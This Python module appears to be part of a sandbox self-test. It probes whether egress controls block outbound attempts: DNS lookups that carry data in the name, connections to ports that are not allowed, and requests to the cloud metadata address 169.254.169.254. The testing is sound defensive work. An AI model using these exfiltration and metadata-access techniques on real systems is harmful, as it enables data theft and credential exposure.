"""Attempts on the way out, where some names are allowed: to reach those, and to reach others through it."""

import os
import socket

from vsm_mcp.sandbox.selftest.probe.attempt import CONNECT_SECONDS, Attempt, Canary, HeldError, Trial

THEME = "way out"
ALLOWED = "reach an allowed name"

_SEND = "a way to send data out and to fetch code"
_ELSEWHERE = ("127.99.99.99", "127.0.0.2", "169.254.169.254")


def attempts() -> tuple[Attempt, ...]:
    """Return all of them; the first must get through."""
    return (
        Attempt(ALLOWED, THEME, "what the policy gives", _allowed),
        Attempt("look up a name that is not allowed", THEME, _SEND, _denied_name),
        Attempt("send data in a name", THEME, _SEND, _data_in_name),
        Attempt("send data in a name below an allowed one", THEME, _SEND, _below_allowed),
        Attempt("reach an allowed name at another port", THEME, _SEND, _other_port),
        *(Attempt(f"reach the address {host}", THEME, _SEND, _address(host)) for host in _ELSEWHERE),
    )


def _allowed(canary: Canary) -> str:
    return _greeting(canary["allowed"], int(canary["allowed port"]))


def _greeting(host: str, port: int) -> str:
    """Connect and wait for a greeting: a connection alone is made by whoever stands between."""
    try:
        with socket.create_connection((host, port), timeout=CONNECT_SECONDS) as connection:
            connection.send(b"hello")
            greeting = connection.recv(10)
    except (ConnectionResetError, BrokenPipeError) as error:
        raise HeldError("the connection was reset") from error
    if not greeting:
        raise HeldError("the connection was closed")
    return repr(greeting)


def _denied_name(canary: Canary) -> str:
    return repr(socket.getaddrinfo(canary["denied"], int(canary["allowed port"]))[:1])


def _data_in_name(canary: Canary) -> str:
    return repr(socket.getaddrinfo(f"{canary['marker'].replace('_', '-')}.{canary['denied']}", 443)[:1])


def _below_allowed(canary: Canary) -> str:
    return repr(socket.getaddrinfo(f"{os.getpid()}.{canary['allowed']}", 443)[:1])


def _other_port(canary: Canary) -> str:
    return _greeting(canary["allowed"], int(canary["tcp"]))


def _address(host: str) -> Trial:
    return lambda canary: _greeting(host, int(canary["allowed port"]))
